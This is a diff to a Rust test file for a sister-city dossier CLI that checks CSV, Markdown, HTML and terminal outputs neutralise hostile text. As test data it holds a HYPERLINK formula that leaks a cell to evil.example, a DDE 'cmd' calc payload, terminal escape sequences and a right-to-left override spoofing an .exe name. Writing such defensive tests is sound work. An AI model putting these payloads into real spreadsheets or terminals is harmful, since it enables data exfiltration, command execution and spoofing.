@@ -1,15 +1,20 @@
 //! Hostile dossier text in every Markdown, HTML and CSV output (issue 10): it reads back as
 //! exactly the text typed, never as Markdown syntax, HTML, a link or an image; CSV is data.
+//! Issue 13: control characters and unbalanced bidi controls are shown as escapes in every
+//! output meant for people, never sent raw to a terminal; a CSV field never starts a formula;
+//! a template that never ends runs out of its budget.
 //!
 //! Markdown is read back with pulldown-cmark (GFM tables on), HTML with html5gum's WHATWG
 //! tokenizer and CSV with the csv crate, so the checks see what a reader's software sees.
 
 use std::collections::BTreeSet;
+use std::time::Duration;
 
 use html5gum::{DefaultEmitter, Token, Tokenizer};
+use proptest::prelude::*;
 use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
 
-use crate::support::{Run, Workspace, commit, git};
+use crate::support::{KAZAN, Run, Workspace, commit, git};
 
 /// A city name that splits a table row when a `|` is not escaped.
 const CITY: &str = "Kazan | Qazan *x*";
@@ -558,6 +563,11 @@ fn read_csv(ws: &Workspace, args: &[&str]) -> (Vec<String>, Vec<Vec<String>>) {
                 !field.contains('—'),
                 "{what}: a display string {field:?}\n{run}"
             );
+            assert!(
+                !field.starts_with(['=', '+', '-', '@', '\t', '\r', '\n'])
+                    || field.parse::<f64>().is_ok(),
+                "{what}: {field:?} is a formula to a spreadsheet\n{run}"
+            );
         }
     }
     (header, rows)
@@ -622,7 +632,11 @@ fn csv_is_data_whatever_the_language() {
         assert_eq!(field(&actions, "id", "a-soon", "days_overdue"), "");
 
         let people = read_csv(&ws, &with(&["facilitator", "list"]));
-        assert_eq!(field(&people, "id", "ali", "name"), FACILITATOR);
+        // `+ Ali` would be a formula: guarded by a `'`.
+        assert_eq!(
+            field(&people, "id", "ali", "name"),
+            format!("'{FACILITATOR}")
+        );
         assert_eq!(field(&people, "id", "ali", "name_fa"), FACILITATOR_FA);
         assert_eq!(field(&people, "id", "ali", "cities"), "kazan");
         assert_eq!(field(&people, "id", "ali", "languages"), "ru;tt");
@@ -636,7 +650,9 @@ fn csv_is_data_whatever_the_language() {
         assert_eq!(field(&gaps, "slug", "porto", "name.en"), PORTO);
 
         let check = read_csv(&ws, &with(&["check", "kazan"]));
-        assert!(field(&check, "id", "communication", "reason").starts_with(EVIDENCE));
+        assert!(
+            field(&check, "id", "communication", "reason").starts_with(&format!("'{EVIDENCE}"))
+        );
         assert_eq!(field(&check, "id", "communication", "status"), "partial");
         assert_eq!(
             field(&check, "id", "active-facilitators", "status"),
@@ -688,5 +704,479 @@ fn csv_columns_are_the_json_keys() {
         expected.extend(extra.iter().map(|e| (*e).to_owned()));
         let (header, _) = read_csv(&ws, args);
         assert_eq!(header, expected, "{args:?}");
+    }
+}
+
+/// Formulas as dossier text: a link that runs when clicked, a command, a phone number, a sum.
+const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?d="&A1,"Kazan")"#;
+const CALC: &str = "=cmd|' /C calc'!A0";
+const PHONE: &str = "+98 31 1234 5678";
+
+/// Every text field a spreadsheet reads as a formula (`=`, `+`, `-`, `@`, TAB, CR, LF first) is
+/// guarded by a `'`, in every CSV; numbers, and text that is exactly a number, stay numbers.
+/// JSON keeps the text as it is.
+#[test]
+fn csv_fields_never_start_a_formula_and_numbers_stay_numbers() {
+    let ws = Workspace::new();
+    ws.city(
+        "kazan.yaml",
+        format!(
+            r#"slug: kazan
+name:
+  en: {hyperlink}
+  fa: "@SUM(1+1)"
+  local: "\tKazan"
+country: RU
+relationship: {{kind: sister-city, status: active}}
+facilitators:
+  - id: ali
+    name: "-Ali"
+    languages: [ru]
+    expertise: ["=1+1", tourism]
+    status: active
+    contact: {{email: "=ali@example.org", phone: {phone}}}
+actions:
+  - id: a-calc
+    title: {calc}
+    owner: joint
+    due: 2026-10-01
+    status: open
+  - id: a-minus
+    title: "-3"
+    owner: chamber
+    status: open
+  - id: a-decimal
+    title: "12.5"
+    owner: chamber
+    status: open
+  - id: a-cr
+    title: "\rx"
+    owner: chamber
+    status: open
+  - id: a-lf
+    title: "\nx"
+    owner: chamber
+    status: open
+"#,
+            hyperlink = q(HYPERLINK),
+            phone = q(PHONE),
+            calc = q(CALC),
+        ),
+    );
+    let number = |text: &str| text.parse::<i64>().is_ok();
+
+    let cities = read_csv(&ws, &["city", "list"]);
+    assert_eq!(
+        field(&cities, "slug", "kazan", "name.en"),
+        format!("'{HYPERLINK}")
+    );
+    assert_eq!(field(&cities, "slug", "kazan", "name.fa"), "'@SUM(1+1)");
+    assert_eq!(field(&cities, "slug", "kazan", "name.local"), "'\tKazan");
+    for column in [
+        "readiness.met",
+        "readiness.total",
+        "active_facilitators",
+        "open_actions",
+        "overdue_actions",
+    ] {
+        assert!(number(field(&cities, "slug", "kazan", column)), "{column}");
+    }
+    assert_eq!(field(&cities, "slug", "kazan", "open_actions"), "5");
+
+    let people = read_csv(&ws, &["facilitator", "list", "--contacts"]);
+    assert_eq!(field(&people, "id", "ali", "name"), "'-Ali");
+    assert_eq!(field(&people, "id", "ali", "expertise"), "'=1+1;tourism");
+    assert_eq!(field(&people, "id", "ali", "email"), "'=ali@example.org");
+    assert_eq!(field(&people, "id", "ali", "phone"), format!("'{PHONE}"));
+
+    let actions = read_csv(&ws, &["action", "list", "--all"]);
+    assert_eq!(field(&actions, "id", "a-calc", "title"), format!("'{CALC}"));
+    assert_eq!(field(&actions, "id", "a-cr", "title"), "'\rx");
+    assert_eq!(field(&actions, "id", "a-lf", "title"), "'\nx");
+    // Text that is exactly a number is a number to the spreadsheet, not a formula.
+    assert_eq!(field(&actions, "id", "a-minus", "title"), "-3");
+    assert_eq!(field(&actions, "id", "a-decimal", "title"), "12.5");
+    assert_eq!(field(&actions, "id", "a-calc", "days_overdue"), "56");
+
+    let roadmap = read_csv(&ws, &["report", "roadmap"]);
+    assert_eq!(field(&roadmap, "id", "a-calc", "title"), format!("'{CALC}"));
+
+    // JSON is data: the text as it was written.
+    let json = run(&ws, &["city", "list", "--format", "json"]).json();
+    assert_eq!(json[0]["name"]["en"], HYPERLINK);
+    let json = run(
+        &ws,
+        &["facilitator", "list", "--contacts", "--format", "json"],
+    )
+    .json();
+    assert_eq!(json[0]["phone"], PHONE);
+}
+
+// ---------------------------------------------------------------------------------------------
+// Terminals
+
+/// Fails unless `out` is inert on a terminal: no control character but LF and TAB (so no ESC,
+/// CR, DEL or C1 control), and on every line each bidi embedding, override and isolate closed
+/// by its own kind, and nothing closed that was not open.
+fn assert_inert(out: &str, what: &str) {
+    if let Some(c) = out
+        .chars()
+        .find(|c| c.is_control() && !matches!(c, '\n' | '\t'))
+    {
+        panic!("{what}: a raw {c:?} in {out:?}");
+    }
+    for line in out.split('\n') {
+        let mut open = Vec::new();
+        for c in line.chars() {
+            let closed = match c {
+                '\u{202A}' | '\u{202B}' | '\u{202D}' | '\u{202E}' | '\u{2066}'..='\u{2068}' => {
+                    open.push(c);
+                    true
+                }
+                '\u{202C}' => matches!(open.pop(), Some('\u{202A}'..='\u{202E}')),
+                '\u{2069}' => matches!(open.pop(), Some('\u{2066}'..='\u{2068}')),
+                _ => true,
+            };
+            assert!(closed, "{what}: {c:?} closes nothing in {line:?}");
+        }
+        assert!(open.is_empty(), "{what}: {open:?} left open in {line:?}");
+    }
+}
+
+/// Terminal escapes (erase the screen, set the window title, open a hyperlink) and a
+/// right-to-left override are shown as escapes in a table, and kept exactly in JSON.
+#[test]
+fn terminal_escapes_are_shown_not_obeyed() {
+    const NAME: &str = "Kazan\u{1b}[2J";
+    const TITLE: &str = "\u{1b}]0;pwned\u{7}Visit \u{1b}]8;;http://x\u{1b}\\here\u{1b}]8;;\u{1b}\\";
+    const PERSON: &str = "Ali\u{202E}fdp.exe";
+    let ws = Workspace::new();
+    ws.city(
+        "kazan.yaml",
+        format!(
+            "slug: kazan\nname: {{en: {}}}\ncountry: RU\nrelationship: {{kind: sister-city, status: active}}\nfacilitators:\n  - id: ali\n    name: {}\n    status: active\nactions:\n  - id: a-visit\n    title: {}\n    owner: joint\n    status: open\n",
+            q(NAME),
+            q(PERSON),
+            q(TITLE)
+        ),
+    );
+    for (args, shown) in [
+        (&["city", "list"][..], r"Kazan\e[2J"),
+        (&["action", "list"], r"\e]0;pwned\x07Visit"),
+        (&["facilitator", "list"], r"Ali\u{202e}fdp.exe"),
+        (&["city", "show", "kazan"], r"\e]8;;http://x\e\here"),
+    ] {
+        let what = args.join(" ");
+        let table = run(&ws, args);
+        assert_inert(&table.stdout, &what);
+        table.stdout_has(shown);
+        // Markdown escapes the backslashes again; the page reads as the table does.
+        let markdown = run(&ws, &[&["--format", "markdown"][..], args].concat()).stdout;
+        assert_inert(&markdown, &what);
+        let md = Markdown::parse(&markdown, &what);
+        let text = md.tables.iter().flatten().flatten().chain(&md.blocks);
+        assert!(text.clone().any(|t| t.contains(shown)), "{what}: {md:#?}");
+    }
+    let json = run(&ws, &["city", "show", "kazan", "--format", "json"]).json();
+    assert_eq!(json["name"]["en"], NAME);
+    assert_eq!(json["actions"][0]["title"], TITLE);
+    assert_eq!(json["facilitators"][0]["name"], PERSON);
+}
+
+/// Pieces of hostile text: Latin and Persian letters, ZWNJ and ZWJ, terminal escapes (erase the
+/// screen, set the title, open a hyperlink), CR, LF, a C1 CSI, DEL, and every bidi embedding,
+/// override and isolate.
+const PIECES: &[&str] = &[
+    "a",
+    "Kazan ",
+    "اصفهان",
+    "\u{200C}",
+    "\u{200D}",
+    " ",
+    "|",
+    "\u{1b}[2J",
+    "\u{1b}]0;x\u{7}",
+    "\u{1b}]8;;http://x\u{1b}\\",
+    "\r",
+    "\n",
+    "\u{9b}",
+    "\u{7f}",
+    "\u{202A}",
+    "\u{202B}",
+    "\u{202C}",
+    "\u{202D}",
+    "\u{202E}",
+    "\u{2066}",
+    "\u{2067}",
+    "\u{2068}",
+    "\u{2069}",
+];
+
+/// Hostile text that is never blank (a required field may not be).
+fn hostile_text() -> impl Strategy<Value = String> {
+    proptest::collection::vec(proptest::sample::select(PIECES), 0..8)
+        .prop_map(|pieces| format!("{}x", pieces.concat()))
+}
+
+/// Where each text of the property test goes in Kazan's dossier (`«i»` in [`PROP_KAZAN`]), as
+/// its place in `city show --format json`.
+const PLACES: &[&str] = &[
+    "/name/en",
+    "/name/fa",
+    "/name/local",
+    "/relationship/notes",
+    "/relationship/sources/0",
+    "/representatives/municipality",
+    "/representatives/chamber",
+    "/joint_chamber",
+    "/sectors/0",
+    "/facilitators/0/name",
+    "/facilitators/0/name_fa",
+    "/facilitators/0/expertise/0",
+    "/facilitators/0/connection",
+    "/facilitators/0/contact/email",
+    "/facilitators/0/contact/phone",
+    "/contacts/0/name",
+    "/contacts/0/organization",
+    "/readiness/communication/evidence",
+    "/actions/0/title",
+    "/actions/1/title",
+    "/actions/2/title",
+    "/interactions/0/title",
+    "/interactions/0/summary",
+    "/opportunities/0/title",
+    "/opportunities/0/sector",
+    "/reviews/0/outcome",
+    "/notes",
+    "/x-hostile",
+];
+
+const PROP_KAZAN: &str = "slug: kazan
+name:
+  en: «0»
+  fa: «1»
+  local: «2»
+country: RU
+relationship:
+  kind: sister-city
+  status: active
+  signed: 2016
+  notes: «3»
+  sources: [«4»]
+representatives:
+  municipality: «5»
+  chamber: «6»
+joint_chamber: «7»
+sectors: [«8»]
+facilitators:
+  - id: ali
+    name: «9»
+    name_fa: «10»
+    languages: [ru]
+    expertise: [«11»]
+    connection: «12»
+    status: active
+    contact:
+      email: «13»
+      phone: «14»
+contacts:
+  - id: c-one
+    name: «15»
+    role: embassy-counsellor
+    organization: «16»
+readiness:
+  communication:
+    status: partial
+    evidence: «17»
+    assessed: 2026-11-20
+actions:
+  - id: a-late
+    title: «18»
+    owner: joint
+    due: 2026-10-01
+    status: open
+  - id: a-soon
+    title: «19»
+    owner: municipality
+    due: 2026-12-01
+    status: in-progress
+  - id: a-done
+    title: «20»
+    owner: chamber
+    due: 2026-11-20
+    status: done
+    done: 2026-11-23
+interactions:
+  - date: 2026-11-24
+    kind: call
+    title: «21»
+    with: [ali, c-one]
+    summary: «22»
+opportunities:
+  - id: o-show
+    title: «23»
+    sector: «24»
+    stage: exploring
+    lead: chamber
+reviews:
+  - date: 2026-11-10
+    participants: [ali]
+    outcome: «25»
+notes: «26»
+x-hostile: «27»
+";
+
+/// `text` as a YAML double-quoted scalar whose every control, bidi control, ZWNJ and ZWJ is
+/// written as a `\\u` escape, so that the file itself is plain printable YAML.
+fn yaml_quoted(text: &str) -> String {
+    let mut out = String::from("\"");
+    for c in text.chars() {
+        match c {
+            '"' => out.push_str("\\\""),
+            '\\' => out.push_str("\\\\"),
+            c if c.is_control()
+                || matches!(c, '\u{200C}' | '\u{200D}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}') =>
+            {
+                out.push_str(&format!("\\u{:04X}", u32::from(c)));
+            }
+            c => out.push(c),
+        }
+    }
+    out.push('"');
+    out
+}
+
+/// Runs `args` with no terminal width (a table is never wrapped, which could part a balanced
+/// pair of bidi controls over two lines), checks the exit code and that nothing was warned of.
+fn run_wide(ws: &Workspace, args: &[&str]) -> Run {
+    let mut cmd = ws.cmd(args);
+    cmd.env_remove("COLUMNS");
+    let run = Run::of(args.join(" "), &mut cmd);
+    run.code(if args.contains(&"check") { 1 } else { 0 })
+        .stderr_empty();
+    run
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig {
+        cases: 24,
+        failure_persistence: None,
+        max_shrink_iters: 32,
+        ..ProptestConfig::default()
+    })]
+
+    /// Random control, escape and bidi characters in every text field of a dossier, in a city
+    /// name and a commit subject, through every read command in every format meant for people:
+    /// nothing reaches the terminal raw. JSON keeps every text exactly.
+    #[test]
+    fn no_control_character_reaches_the_terminal(
+        texts in proptest::collection::vec(hostile_text(), PLACES.len() + 2),
+        persian in any::<bool>(),
+    ) {
+        let mut kazan = PROP_KAZAN.to_owned();
+        // Highest first, so that «1» does not match inside «10».
+        for (i, text) in texts.iter().enumerate().take(PLACES.len()).rev() {
+            kazan = kazan.replace(&format!("«{i}»"), &yaml_quoted(text));
+        }
+        let (porto, subject) = (&texts[PLACES.len()], &texts[PLACES.len() + 1]);
+        let ws = Workspace::new();
+        let date = "2026-11-22T10:00:00";
+        git(&ws, &["init", "-q"], "Analyst", date);
+        ws.city("kazan.yaml", &kazan).city(
+            "porto.yaml",
+            format!(
+                "slug: porto\nname: {{en: {}}}\ncountry: PT\nrelationship: {{kind: friendship, status: active}}\n",
+                yaml_quoted(porto)
+            ),
+        );
+        commit(&ws, &["cities/kazan.yaml", "cities/porto.yaml"], "Analyst", date, subject);
+
+        let lang: &[&str] = if persian { &["--lang", "fa"] } else { &["--lang", "en"] };
+        let mut commands: Vec<Vec<&str>> = Vec::new();
+        for format in ["table", "markdown"] {
+            for args in [
+                &["city", "list"][..],
+                &["city", "show", "kazan", "--contacts"],
+                &["city", "show", "porto"],
+                &["facilitator", "list", "--contacts"],
+                &["facilitator", "list", "--gaps"],
+                &["action", "list", "--all"],
+                &["check"],
+                &["summary"],
+            ] {
+                commands.push([lang, &["--format", format], args].concat());
+            }
+        }
+        for format in ["markdown", "html"] {
+            for args in [
+                &["report", "weekly"][..],
+                &["report", "roadmap"],
+                &["report", "review", "kazan", "--include-contacts"],
+            ] {
+                commands.push([lang, &["--format", format], args].concat());
+            }
+        }
+        for args in &commands {
+            assert_inert(&run_wide(&ws, args).stdout, &args.join(" "));
+        }
+
+        let json = run_wide(&ws, &["city", "show", "kazan", "--contacts", "--format", "json"]).json();
+        for (place, text) in PLACES.iter().zip(&texts) {
+            prop_assert_eq!(json.pointer(place).and_then(|v| v.as_str()), Some(text.as_str()), "{}", place);
+        }
+        let rows = run_wide(&ws, &["city", "list", "--format", "json"]).json();
+        prop_assert_eq!(rows[1]["name"]["en"].as_str(), Some(porto.as_str()));
+        let actions = run_wide(&ws, &["action", "list", "--all", "--format", "json"]).json();
+        let titles: BTreeSet<&str> = actions.as_array().into_iter().flatten().filter_map(|a| a["title"].as_str()).collect();
+        prop_assert_eq!(titles, texts[18..=20].iter().map(String::as_str).collect::<BTreeSet<_>>());
+    }
+}
+
+/// What a workspace's template writes itself, `| safe` values and character references the
+/// HTML page decodes are shown escaped too: no report holds a raw control character.
+#[test]
+fn a_template_cannot_send_controls_either() {
+    let ws = hostile();
+    ws.file(
+        "templates/review.md.j2",
+        "# {{ slug }} \u{1b}[2J\n\n{{ '\u{1b}]0;title\u{7}' | safe }} &#x1b;[2J &#x202E;rtl `&#27;`\n",
+    );
+    for format in ["markdown", "html"] {
+        let report = run(&ws, &["--format", format, "report", "review", "kazan"]);
+        assert_inert(&report.stdout, format);
+        report
+            .stdout_has(r"kazan \e[2J")
+            .stdout_has(r"\e]0;title\x07");
+    }
+    let html = run(&ws, &["--format", "html", "report", "review", "kazan"]);
+    html.stdout_has(r"\e[2J \u{202e}rtl <code>&amp;#27;</code>");
+}
+
+// ---------------------------------------------------------------------------------------------
+// Templates
+
+/// A workspace's template that would loop for hours stops after a fixed budget, with an error
+/// that names the template and the line; so does one given with `--template`.
+#[test]
+fn a_template_that_never_ends_runs_out_of_its_budget() {
+    let ws = Workspace::with(&[("kazan.yaml", KAZAN)]);
+    let endless = "# Week\n{% for i in range(100000) %}{% for j in range(100000) %}{{ i }}{% endfor %}{% endfor %}\n";
+    ws.file("templates/weekly.md.j2", endless);
+    ws.file("loop.md.j2", endless);
+    for (args, name) in [
+        (&["report", "weekly"][..], "`templates/weekly.md.j2`"),
+        (
+            &["report", "review", "kazan", "--template", "loop.md.j2"],
+            "`loop.md.j2`",
+        ),
+    ] {
+        let mut cmd = ws.cmd(args);
+        // A budget that does not stop the loop fails the test instead of hanging it.
+        cmd.timeout(Duration::from_secs(20));
+        let run = Run::of(args.join(" "), &mut cmd);
+        run.code(2)
+            .stderr_has(&format!("{name}: the template ran out of its budget"))
+            .stderr_has("at line 2");
+        assert!(run.stdout.is_empty(), "{run}");
     }
 }
